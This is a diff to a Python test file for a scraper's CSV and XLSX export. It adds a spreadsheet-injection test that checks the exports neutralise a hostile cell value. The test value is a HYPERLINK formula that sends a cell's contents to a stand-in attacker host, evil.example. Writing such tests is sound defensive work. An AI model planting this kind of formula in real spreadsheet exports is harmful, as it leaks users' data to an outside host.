@@ -14,6 +14,7 @@ from tests.farm.evaluate import load_truth
 from tests.farm.server import SITES
 
 TRUTH = load_truth(SITES)
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Voir")'  # an upstream scraper's cell
 FARM_SITES = [
     "boulangerie-martin.fr",
     "plomberie-durand.fr",
@@ -22,7 +23,7 @@ FARM_SITES = [
     "comptoir-des-ducs-dijon.fr",  # only in the sitemap: normal mode finds nothing
 ]
 ITEMS = [TRUTH[host]["poi"] for host in FARM_SITES] + [
-    {"nom": "Sans site", "ville": "Lyon"},
+    {"nom": "Sans site", "ville": "Lyon", "note": HOSTILE},
     {**TRUTH["boulangerie-martin.fr"]["poi"], "nom": "Martin (dépôt)"},
 ]
 
@@ -94,6 +95,7 @@ def test_csv_results_open_in_excel(emails_job):
     assert len(rows) == len(ITEMS)
     assert rows[0]["nom"] == ITEMS[0]["nom"]
     assert rows[5]["email"] == ""  # no website: empty, not "None"
+    assert rows[5]["note"] == "'" + HOSTILE  # text, never a formula (OWASP)
     assert "attachment" in answer.headers["Content-Disposition"]
 
 
@@ -104,6 +106,8 @@ def test_xlsx_results(emails_job):
     values = list(sheet.values)
     assert values[0][:3] == ("nom", "ville", "site_web")
     assert len(values) == len(ITEMS) + 1
+    note = sheet.cell(row=7, column=values[0].index("note") + 1)
+    assert (note.value, note.data_type, note.quotePrefix) == (HOSTILE, "s", True)
 
 
 def test_the_event_stream_ends_with_done(emails_job):
